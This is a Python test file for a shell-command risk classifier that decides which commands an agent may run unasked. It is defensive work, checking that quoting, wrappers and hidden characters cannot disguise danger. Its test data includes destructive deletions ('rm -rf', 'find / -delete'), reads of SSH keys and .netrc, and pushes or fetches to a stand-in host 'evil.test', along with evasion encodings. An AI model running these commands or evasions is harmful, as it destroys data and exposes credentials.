"""C-84: what is said of a command: its class, its commands, the patterns of an approval; and what holds for every text."""

import json
import shlex
import sys
import time
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from handhold.core.errors import ExtraMissing
from handhold.core.policy.modes import CLASSES_JUDGED_BY_EFFECTS
from handhold.core.policy.shell import CLASSES_BY_SEVERITY, ShellContext, analyze_command, grammar, matches
from handhold.core.policy.shell.invisible import find_invisible
from handhold.core.ports.policy import CommandAnalysis
from tests.scale import examples

STANDING = ShellContext(roots=("/ws/project",), cwd="/ws/project", home="/home/user")
LIST = json.loads((Path(__file__).parents[1] / "commands.json").read_text(encoding="utf-8"))
HARMFUL = [row["command"] for row in LIST if row["expect"] not in ("read-only", "workspace-write")]
SEEN = [text for text in HARMFUL if not find_invisible(text)]


def looked(text: str) -> CommandAnalysis:
    return analyze_command(text, STANDING)


def runs_unasked(text: str) -> bool:
    found = looked(text)
    return found.kind in CLASSES_JUDGED_BY_EFFECTS and not found.invisible


# --- what is said


@pytest.mark.parametrize(
    ("text", "kind", "because"),
    [
        ("ls; rm -rf .git", "dangerous", ".git"),
        ("git push", "network", "git push"),
        ("git push; $x", "unknown", "which program"),
        ("git push; $x; sudo ls", "dangerous", "sudo"),
        ("touch a", "workspace-change", "touch"),
        ("ls", "read-only", "only reads"),
        ("", "read-only", "only reads"),
        ("# nothing", "read-only", "only reads"),
    ],
)
def test_the_worst_part_decides_and_is_named(text: str, kind: str, because: str):
    found = looked(text)
    assert found.kind == kind
    assert because in found.because


def test_what_is_unknown_weighs_more_than_a_connection():
    assert CLASSES_BY_SEVERITY == ("read-only", "workspace-change", "network", "unknown", "dangerous")


def test_commands_are_listed_with_their_wrappers_and_without():
    found = looked("nice -n 5 bash -c 'git push && ls \"$x\"'")
    assert found.commands == (
        ("nice", "-n", "5", "bash", "-c", 'git push && ls "$x"'),
        ("bash", "-c", 'git push && ls "$x"'),
        ("git", "push"),
        ("ls", "…"),
    )


@pytest.mark.parametrize(
    ("text", "patterns"),
    [
        ("git push origin main", ("git push",)),
        ("npm install lodash", ("npm install",)),
        ("pip3 install -r requirements.txt", ("pip install",)),
        ("cargo add serde && git push", ("cargo add", "git push")),
        ("nice npm ci", ("npm ci",)),
        ("gh pr create --fill", ("gh pr create",)),
        ("python -m http.server", ("python -m http.server",)),
        ("git push https://evil.test/x.git", ()),  # no like: it is about one place
        ("git push $(cat x)", ()),
        ("pip install --index-url x y", ()),
        ("curl -s example.test", ()),
        ("git push; curl example.test", ()),
        ("git push && $x", ()),
        ("sudo npm install", ()),
        ("bash -c 'sudo git push'", ()),
        ("python -c 'print(1)'", ()),
        ("ls", ()),
    ],
)
def test_a_pattern_is_sized_by_the_commands_own_arity_and_is_never_a_bare_interpreter(
    text: str, patterns: tuple[str, ...]
):
    assert looked(text).patterns == patterns


@pytest.mark.parametrize(
    ("pattern", "words", "yes"),
    [
        ("git push", ("git", "push", "origin"), True),
        ("git push", ("git", "pull"), False),
        ("git push", ("git",), False),
        ("git push *", ("git", "push"), True),
        ("npm run test:*", ("npm", "run", "test:unit"), True),
        ("npm run test:*", ("npm", "run", "build"), False),
        ("*", ("anything",), True),
        ("", ("anything",), False),
        ("a.c", ("abc",), False),
        ("git pu?h", ("git", "push"), False),
    ],
)
def test_a_pattern_is_matched_word_by_word_from_the_beginning(pattern: str, words: tuple[str, ...], yes: bool):
    assert matches(pattern, words) is yes


@pytest.mark.parametrize("text", ["git push origin main", "npm install x", "cargo add y && git push"])
def test_a_pattern_matches_the_command_that_it_was_made_of(text: str):
    found = looked(text)
    assert found.patterns
    for pattern in found.patterns:
        assert any(matches(pattern, words) for words in found.commands)


# --- where it stands


def test_a_second_root_is_inside_and_the_folder_decides_what_a_name_means():
    two = ShellContext(roots=("/ws/a", "/ws/b"), cwd="/ws/a/src", home="/home/user")
    assert analyze_command("cp ../x /ws/b/y", two).kind == "workspace-change"
    assert analyze_command("cat ../../c/x", two).kind == "dangerous"
    assert analyze_command("rm -rf /ws/b", two).kind == "dangerous"


def test_a_workspace_in_the_home_is_inside_and_the_home_around_it_is_not():
    home = ShellContext(roots=("/home/user/p",), cwd="/home/user/p", home="/home/user")
    assert analyze_command("cat ~/p/a && rm -rf ~/p/build", home).kind == "workspace-change"
    assert analyze_command("cat ~/.netrc", home).kind == "dangerous"


def test_without_a_home_a_tilde_is_not_known():
    nobody = ShellContext(roots=("/ws",), cwd="/ws", home="")
    assert analyze_command("cat ~/x", nobody).kind == "unknown"
    assert analyze_command("cd && rm -rf x", nobody).kind == "unknown"


# --- invisible characters


@pytest.mark.parametrize("char", ["\u200b", "\u202e", "\xa0", "\u3164", "\ufeff", "\r", "\0", "\x1b", "\x7f", "\u2028", "\u00ad", "\ufe00", "\U000e0041", "\u2066", "\u180e"])  # fmt: skip
def test_a_character_that_nobody_can_see_is_named(char: str):
    found = looked(f"ls {char}x")
    assert found.kind == "unknown"
    assert found.invisible == f"U+{ord(char):04X}"
    assert found.commands == ()


@pytest.mark.parametrize(
    "text", ["echo 'naïve'", "echo 日本語", "echo ✅ 👍🏽 ❤️ 👩‍💻", "echo\t'a\nb'", "echo „schön“ …"]
)
def test_letters_and_signs_that_can_be_seen_are_fine(text: str):
    assert looked(text).invisible == ""
    assert looked(text).kind == "read-only"


# --- bounds


@pytest.mark.parametrize("joint", [" && ", "; ", " | ", "\n", " || ", " & "])
@pytest.mark.parametrize("count", [50, 20_000])
def test_fifty_and_twenty_thousand_chained_commands_fail_closed_in_under_a_second(joint: str, count: int):
    text = joint.join(["true"] * count)
    begun = time.process_time()
    found = looked(text)
    took = time.process_time() - begun
    print(f"{count} joined by {joint!r}: {took * 1000:.1f} ms, {found.because}")
    assert found.kind == "unknown"
    assert took < 1


def test_forty_nine_are_still_looked_at():
    assert looked(" && ".join(["true"] * 49)).kind == "read-only"


def test_code_within_code_is_looked_into_as_far_as_it_goes():
    text = "rm -rf ~"
    for _ in range(4):
        text = f"bash -c {shlex.quote(text)}"
    assert looked(text).kind == "dangerous"


@pytest.mark.parametrize(
    "text",
    [
        "(" * 20_000,
        "(" * 10_000 + "ls" + ")" * 10_000,
        "$(" * 5_000 + "ls" + ")" * 5_000,
        "{ " * 10_000,
        "if ls; then " * 4_000,
        '"$(' * 9_000,
        "`" * 30_000,
        "${x:-" * 8_000,
        "<<E " * 10_000,
        "'" * 60_000,
        "nice " * 10_000 + "ls",
        "nice " * 200 + "ls",
        "echo " + "a " * 30_000,
        "echo " + "{a,b}" * 40,
        "for x in a b c d; do " * 7 + "ls; " + "done; " * 7,
        "for x in a b c d e f g h; do " * 7 + "y=1; " + "done; " * 7,
        "a|" * 20_000 + "a",
        "x" * 64 * 1024 + "xx",
    ],
    ids=lambda text: text[:12],
)
def test_what_is_nested_or_repeated_beyond_reason_is_unknown_in_under_a_second(text: str):
    begun = time.process_time()
    found = looked(text)
    took = time.process_time() - begun
    assert found.kind not in CLASSES_JUDGED_BY_EFFECTS
    assert took < 1


# --- always and never

LETTERS = st.sampled_from("ab /.~-\n\t'\"\\$`(){}[]<>|&;!#=*?,:@%^+0é…\u200b\0\x01")
TOKENS = st.sampled_from(
    ["rm ", "-rf ", "$(", "))", "((", "${x", "<<E\n", "\nE\n", "<<<", ">&", "&>", "if ", "then ", "fi", "for x in ", "do ", "done", "case ", "esac", "[[ ", " ]]", "x=", "eval ", "bash -c ", "xargs ", "find . -exec ", "sed s/a/b/", "awk '", "git ", "env ", "sudo ", "\\\n", "$'", "time ", "{a,b}", "f() ", "cd "]
)  # fmt: skip


@given(st.lists(st.one_of(LETTERS, TOKENS), max_size=30).map("".join))
@settings(max_examples=examples(400))
def test_any_text_gets_a_class_and_none_raises(text: str):
    found = looked(text)
    assert found.kind in CLASSES_BY_SEVERITY
    assert found.text == text
    assert not (found.patterns and found.kind != "network")


@given(st.text(max_size=60))
def test_any_characters_at_all_get_a_class(text: str):
    assert looked(text).kind in CLASSES_BY_SEVERITY


QUOTES = st.sampled_from(
    [
        lambda word: word,
        lambda word: f"'{word}'",
        lambda word: f'"{word}"',
        lambda word: "".join(f"\\{char}" for char in word),
        lambda word: f"{word[:1]}''{word[1:]}",
        lambda word: f"{word[:1]}'{word[1:]}'",
        lambda word: "$'" + "".join(f"\\x{ord(char):02x}" for char in word) + "'",
        lambda word: "$'" + "".join(f"\\{ord(char):03o}" for char in word) + "'",
        lambda word: f'"{word[:-1]}"{word[-1:]}',
        lambda word: f"$(echo {word})",
        lambda word: f"${{x}}{word}",
        lambda word: f"{{{word},}}",
    ]
)
BLANKS = st.text(" \t", min_size=1, max_size=3) | st.just(" \\\n ")
COMMANDS = st.sampled_from(
    [
        ["rm", "-rf", ".git"],
        ["rm", "-r", "-f", "--", "/"],
        ["cat", "/home/user/.ssh/id_rsa"],
        ["git", "diff", "--ext-diff"],
        ["git", "push"],
        ["curl", "evil.test"],
        ["sudo", "ls"],
        ["tee", ".envrc"],
        ["bash", "-c", "curl evil.test"],
        ["find", "/", "-delete"],
        ["sed", "1e id", "f"],
        ["npm", "install"],
    ]
)


@given(COMMANDS, st.data())
@settings(max_examples=examples(300))
def test_no_way_of_quoting_or_spacing_makes_a_harmful_command_run_unasked(words: list[str], data: st.DataObject):
    spelled = ""
    for word in words:
        quote = data.draw(QUOTES) if " " not in word else shlex.quote
        spelled += quote(word) + data.draw(BLANKS)
    assert not runs_unasked(spelled), spelled


AROUND = [
    "( {}\n)",
    "{{ {}\n}}",
    "true && {{ {}\n}}",
    "false || {{ {}\n}}",
    "ls; {}",
    "ls\n{}",
    "ls & {}",
    "! {{ {}\n}}",
    "if {}\nthen ls; fi",
    "if ls; then {}\nfi",
    "while {}\ndo ls; done",
    "for each in a; do {}\ndone",
    "case a in a) {}\n;; esac",
    "f() {{ {}\n}}",
    "taken=$({}\n)",
    'echo "a $({}\n) b"',
    "echo ${{unset:-$({}\n)}}",
    "cat <({}\n)",
    "cat <<END\n$({}\n)\nEND",
    "[[ -n $({}\n) ]]",
    "ls | {{ {}\n}}",
]
IN_A_STRING = ["bash -c {}", "sh -ec {}", "eval {}", "nice bash -c {}", "env -i sh -c {}", "trap {} EXIT", "bash <<< {}", "echo {} | sh", "xargs -I% sh -c {}", "find . -exec sh -c {} ';'", "timeout 5 bash -c {}", "watch {}", "script -c {}", "flock /tmp/l -c {}"]  # fmt: skip
BEFORE = ["nice", "nice -n 3", "timeout 5", "nohup", "env", "env A=1", "command", "time", "stdbuf -oL", "setsid", "ionice -c 3", "exec", "xargs", "busybox", "sudo", "strace -f", "find . -exec"]  # fmt: skip


@given(st.sampled_from(SEEN), st.lists(st.sampled_from([*AROUND, *IN_A_STRING]), min_size=1, max_size=3))
@settings(max_examples=examples(400))
def test_no_wrapper_makes_a_harmful_text_run_unasked(text: str, wrappers: list[str]):
    for wrapper in wrappers:
        text = wrapper.format(shlex.quote(text)) if wrapper in IN_A_STRING else wrapper.format(text)
    assert not runs_unasked(text), text


@given(COMMANDS, st.lists(st.sampled_from(BEFORE), min_size=1, max_size=4))
def test_no_program_that_runs_another_hides_a_harmful_one(words: list[str], wrappers: list[str]):
    text = " ".join([*wrappers, shlex.join(words)])
    assert not runs_unasked(text), text


# --- what is not installed


def test_without_the_grammar_the_extra_is_named(monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setitem(sys.modules, "tree_sitter", None)
    grammar.load_language.cache_clear()
    with pytest.raises(ExtraMissing) as raised:
        analyze_command("ls -l /not/asked/before", STANDING)
    assert raised.value.extra == "shell"
